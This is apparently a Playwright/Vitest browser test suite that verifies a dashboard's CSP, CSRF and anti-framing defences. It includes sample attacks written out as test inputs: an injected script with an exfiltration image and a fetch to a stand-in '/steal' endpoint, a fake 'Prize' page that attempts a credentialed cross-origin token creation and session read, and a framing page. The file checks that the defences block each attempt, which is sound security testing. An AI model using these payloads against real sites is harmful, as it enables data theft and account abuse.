import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, ConsoleMessage, Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  browserSkipReason,
  type DashboardServer,
  launchBrowser,
  newEmail,
  newPage,
  PASSWORD,
  signIn,
  startDashboardServer,
  verifiedAccount,
} from '../../support/dashboard-browser.js';

/** A page on another origin of the same machine (same site, other port), as an attacker would host it. */
function attackerSite(html: string): Promise<{ url: string; server: Server }> {
  const server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html);
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      resolve({ url: `http://127.0.0.1:${port}`, server });
    });
  });
}

/** What the CSP and the CSRF check guarantee, seen from Chromium. */
describe.skipIf(browserSkipReason !== undefined)(
  'dashboard: CSP and CSRF from the browser',
  { timeout: 90_000 },
  () => {
    let server: DashboardServer;
    let browser: Browser;
    const sites: Server[] = [];

    beforeAll(async () => {
      [server, browser] = await Promise.all([startDashboardServer(), launchBrowser()]);
    });
    afterAll(async () => {
      for (const site of sites) site.close();
      await browser?.close();
      await server?.close();
    });

    it('blocks an injected inline script, a foreign image and a request to another origin', async () => {
      const { page } = await newPage(browser);
      const messages: string[] = [];
      page.on('console', (message: ConsoleMessage) => messages.push(message.text()));
      await page.goto(`${server.url}/login`);
      await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
      // What an injection would try: an inline script, an image to exfiltrate with, a fetch elsewhere. The
      // evaluation itself is the test's (DevTools), not the page's, so only what it adds to the page is judged.
      const outcome = await page.evaluate<{ ran: boolean; violations: string[]; fetched: string }>(`
        new Promise((resolve) => {
          const violations = [];
          document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
          const script = document.createElement('script');
          script.textContent = 'window.injectedRan = true';
          document.head.append(script);
          const image = document.createElement('img');
          image.src = 'http://127.0.0.1:9/pixel.png?secret=1';
          document.body.append(image);
          fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' })
            .then(() => 'sent', () => 'refused')
            .then((fetched) => setTimeout(() => resolve({ ran: window.injectedRan === true, violations, fetched }), 300));
        })
      `);
      expect(outcome.ran).toBe(false);
      expect(outcome.fetched).toBe('refused');
      expect(outcome.violations).toEqual(
        expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']),
      );
      expect(messages.some((text) => text.includes('Content Security Policy'))).toBe(true);
      await page.context().close();
    });

    it('refuses a cross-origin write carrying the session cookie, and lets no other origin read answers', async () => {
      const email = await verifiedAccount(server, newEmail('csrf'));
      const { context, page } = await newPage(browser);
      await signIn(page, server, email);

      const attacker = await attackerSite(`<!doctype html><title>Prize</title><script>
        window.attack = async () => {
          const write = fetch('${server.url}/v1/tokens', {
            method: 'POST', mode: 'no-cors', credentials: 'include',
            headers: { 'content-type': 'text/plain' },
            body: JSON.stringify({ name: 'stolen', scopes: ['profiles:read'] }),
          }).then(() => 'sent', () => 'failed');
          const read = fetch('${server.url}/v1/auth/me', { credentials: 'include' })
            .then((answer) => answer.text(), () => 'unreadable');
          return { write: await write, read: await read };
        };
      </script><h1>You won</h1>`);
      sites.push(attacker.server);
      const evil = await context.newPage();
      const answers: Response[] = [];
      evil.on('response', (response) => answers.push(response));
      await evil.goto(attacker.url);
      const result = await evil.evaluate<{ write: string; read: string }>('window.attack()');

      // The write reached the server with the session cookie (same site, other port: without the cookie the
      // answer would be 401) and was refused for its Origin (403).
      const write = answers.find(
        (answer) => answer.request().method() === 'POST' && answer.url().endsWith('/v1/tokens'),
      );
      expect(write?.status()).toBe(403);
      // The answer to the read is the browser's to withhold: no CORS grant for that origin.
      expect(result.read).toBe('unreadable');
      expect(result.read).not.toContain(email);

      const owner = server.client();
      await owner.auth.login({ email, password: PASSWORD });
      expect(await owner.tokens.list().toArray()).toEqual([]);
      await context.close();
    });

    it('cannot be framed by another site', async () => {
      const attacker = await attackerSite(
        `<!doctype html><title>Frame</title><iframe title="dashboard" src="${server.url}/login"></iframe>`,
      );
      sites.push(attacker.server);
      const { page } = await newPage(browser);
      const messages: string[] = [];
      page.on('console', (message: ConsoleMessage) => messages.push(message.text()));
      await page.goto(attacker.url);
      await page.waitForLoadState('load');
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
      // The framed document never loads the dashboard: its sign-in heading is not there.
      const headings =
        frame === undefined ? 0 : await frame.getByRole('heading', { name: 'Sign in' }).count();
      expect(headings).toBe(0);
      expect(messages.some((text) => /frame-ancestors|X-Frame-Options/.test(text))).toBe(true);
      await page.context().close();
    });
  },
);
